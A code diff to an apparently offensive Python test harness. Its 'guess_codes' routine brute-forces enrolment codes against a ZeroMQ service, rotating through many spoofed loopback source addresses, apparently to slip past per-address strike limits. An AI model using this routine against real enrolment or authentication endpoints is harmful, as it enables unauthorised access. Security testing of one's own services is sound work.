@@ -21,7 +21,7 @@ class Target:
     def __init__(self, path):
         with open(path) as file:
             self.__dict__.update(json.load(file))
-        self.strikes, self.told = 0, time.monotonic()
+        self.strikes, self.told = 0, 0.0
 
     def struck(self, count=1):
         self.strikes += count
@@ -147,12 +147,12 @@ def guess_codes(target):
     """ENROL with a code that is made up and a proof that fits, from many addresses, several before the first answer."""
     from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
     from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
-    number = 0
+    number, network = 0, int(target.address.split(".")[1]) + 1
     while True:
         number = (number + 1) % 2000
         public, secret = map(client.z85.decode, zmq.curve_keypair())
         key = Ed25519PrivateKey.generate()
-        sock = target.dealer(target.enrol_port, f"127.3.{number // 250}.{number % 250 + 1}", (public, secret))
+        sock = target.dealer(target.enrol_port, f"127.{network}.{number // 250}.{number % 250 + 1}", (public, secret))
         with contextlib.suppress(zmq.Again):
             for _ in range(8):
                 code = "".join(ALPHABET[byte % 32] for byte in os.urandom(20))
